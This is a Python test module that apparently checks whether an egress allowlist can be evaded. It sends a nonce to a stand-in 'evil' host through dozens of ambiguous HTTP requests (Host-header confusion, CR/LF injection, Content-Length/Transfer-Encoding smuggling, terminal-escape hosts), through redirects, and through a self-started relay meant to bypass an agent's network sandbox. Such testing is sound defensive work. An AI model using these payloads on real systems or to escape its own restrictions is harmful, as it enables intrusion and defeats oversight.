"""First requests that two readers could understand in two ways (RFC 9112), and requests by detours."""

import re
import socketserver
import threading

import wire
from reach import attempt, connect, send_and_read

HOST, OTHER = "cdn-allowed.test", "cdn-evil.test"
FRAME = b"\0\0\x14\0\0\0\0\0\0"  # an HTTP/2 frame of 20 bytes, as its header says


def get(nonce, host=HOST, target="/{}", more="", method="GET", version="HTTP/1.1"):
    """Returns a request; the target's braces stand for the nonce."""
    return f"{method} {target.format(nonce)} {version}\r\nHost: {host}\r\n{more}\r\n".encode()


VARIANTS = {
    "fragment": lambda n: get(n, f"{OTHER}#{HOST}"),
    "query": lambda n: get(n, f"{OTHER}?.{HOST}"),
    "slash": lambda n: get(n, f"{OTHER}/.{HOST}"),
    "backslash": lambda n: get(n, f"{OTHER}\\.{HOST}"),
    "user": lambda n: get(n, f"{HOST}:80@{OTHER}"),
    "brackets": lambda n: get(n, f"[{HOST}]:80"),
    "empty": lambda n: get(n, ""),
    "empty-port": lambda n: get(n, f"{HOST}:"),
    "two-ports": lambda n: get(n, f"{HOST}:80:443"),
    "port-zero-led": lambda n: get(n, f"{HOST}:080"),
    "port-wraps": lambda n: get(n, f"{HOST}:{80 + 65536}"),
    "port-sign": lambda n: get(n, f"{HOST}:+80"),
    "port-wide": lambda n: get(n, f"{HOST}:\uff18\uff10"),
    "percent": lambda n: get(n, "%63dn-allowed.test"),
    "percent-nul": lambda n: get(n, f"{OTHER}%00.{HOST}"),
    "first-dot": lambda n: get(n, f".{HOST}"),
    "comma": lambda n: get(n, f"{HOST}, {OTHER}"),
    "space": lambda n: get(n, f"{HOST} {OTHER}"),
    "escape": lambda n: get(n, "\x1b]0;owned\x07.test"),
    "escape-c1": lambda n: get(n, "\u009b31m\u202e.test"),
    "unicode": lambda n: get(n, "cdn-\u0430llowed.test"),
    "field-space": lambda n: f"GET /{n} HTTP/1.1\r\nHost : {OTHER}\r\nHost: {HOST}\r\n\r\n".encode(),
    "field-folded": lambda n: f"GET /{n} HTTP/1.1\r\nHost:\r\n {OTHER}\r\n\r\n".encode(),
    "field-first-folded": lambda n: f"GET /{n} HTTP/1.1\r\n Host: {OTHER}\r\nHost: {HOST}\r\n\r\n".encode(),
    "field-nul": lambda n: f"GET /{n} HTTP/1.1\r\nHost: {HOST}\r\nX\0: 1\r\n\r\n".encode(),
    "field-cr": lambda n: f"GET /{n} HTTP/1.1\r\nX: 1\rHost: {OTHER}\r\nHost: {HOST}\r\n\r\n".encode(),
    "field-lf": lambda n: f"GET /{n} HTTP/1.1\r\nX: 1\nHost: {OTHER}\r\nHost: {HOST}\r\n\r\n".encode(),
    "lines-lf": lambda n: f"GET /{n} HTTP/1.1\nHost: {HOST}\n\n".encode(),
    "leading-line": lambda n: b"\r\n" + get(n),
    "two-lengths": lambda n: get(n, more="Content-Length: 0\r\nContent-Length: 40\r\n"),
    "length-chunked": lambda n: get(n, more="Content-Length: 4\r\nTransfer-Encoding: chunked\r\n") + b"0\r\n\r\n",
    "two-encodings": lambda n: get(n, more="Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n"),
    "absolute": lambda n: get(n, target=f"http://{OTHER}/{{}}"),
    "absolute-user": lambda n: get(n, target=f"http://{HOST}@{OTHER}/{{}}"),
    "absolute-port": lambda n: get(n, target=f"http://{HOST}:8443/{{}}"),
    "absolute-tls": lambda n: get(n, target=f"https://{HOST}/{{}}"),
    "absolute-other": lambda n: get(n, target=f"ftp://{HOST}/{{}}"),
    "authority": lambda n: get(n, target=f"{HOST}:80/{{}}"),
    "target-spaces": lambda n: get(n, target=f"/{{}} http://{OTHER}/"),
    "connect": lambda n: get(n, target=f"{HOST}:80", more=f"X: {n}\r\n", method="CONNECT"),
    "tls-upgrade": lambda n: get(n, more="Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\n"),
    "version-9": lambda n: f"GET /{n}\r\n\r\n".encode(),
    "version-10": lambda n: f"GET /{n} HTTP/1.0\r\n\r\n".encode(),
    "version-2": lambda n: b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + FRAME + n.encode(),
    "method": lambda n: get(n, method="\"GET\""),
    "long": lambda n: get(n, more="X: " + "x" * 70000 + "\r\n"),
}


def head(variant, host, nonce):
    """One first request of that variant."""
    send_and_read(connect(host, 80), VARIANTS[variant](nonce))


def redirected(place, nonce):
    """Follows a redirect that an allowed server gives, and only then tells the nonce."""
    with connect("allowed.test", 80) as connection:
        connection.sendall(wire.request("GET", f"/redirect/{place}", "allowed.test"))
        answer = connection.recv(4096).decode()
    found = re.search(r"location: http://([^/\r]*)", answer, re.IGNORECASE)
    if not found:
        raise OSError(f"no redirect: {answer}")
    target = found.group(1)
    send_and_read(connect(target, 80), wire.request("GET", f"/{nonce}", target))


class Relay(socketserver.StreamRequestHandler):
    """Takes "HOST PORT", connects there and passes on what the client says next."""

    def handle(self):
        host, port = self.rfile.readline().decode().split()
        attempt(host, self.forward, host, port)

    def forward(self, host, port):
        with connect(host, port) as target:
            target.sendall(self.rfile.readline())
            self.wfile.write(target.recv(300))


def relayed(nonce, *hosts):
    """Connects by a relay of the agent's own, as if another program's policy were asked."""
    with socketserver.ThreadingTCPServer(("127.0.0.1", 0), Relay) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        for host in hosts:
            send_and_read(connect("127.0.0.1", server.server_address[1]), f"{host} 443\n{nonce}\n".encode())
        server.shutdown()
